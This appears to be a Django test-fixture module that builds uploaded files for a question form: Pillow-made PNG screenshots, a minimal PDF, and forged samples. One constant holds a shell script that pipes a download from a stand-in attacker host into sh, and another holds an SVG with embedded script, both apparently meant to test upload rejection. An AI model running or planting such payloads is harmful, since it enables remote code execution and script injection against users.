"""Files people attach to a question: real screenshots (made with Pillow), a PDF, and forged ones."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

PDF_BYTES = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SCRIPT_BYTES = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG_BYTES = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (39, 84)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buffer, format=fmt)
    return buffer.getvalue()


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def png(name: str = "Снимок экрана.png") -> SimpleUploadedFile:
    return upload(name, image_bytes("PNG"), "image/png")


def pdf(name: str = "Ошибка.pdf") -> SimpleUploadedFile:
    return upload(name, PDF_BYTES, "application/pdf")
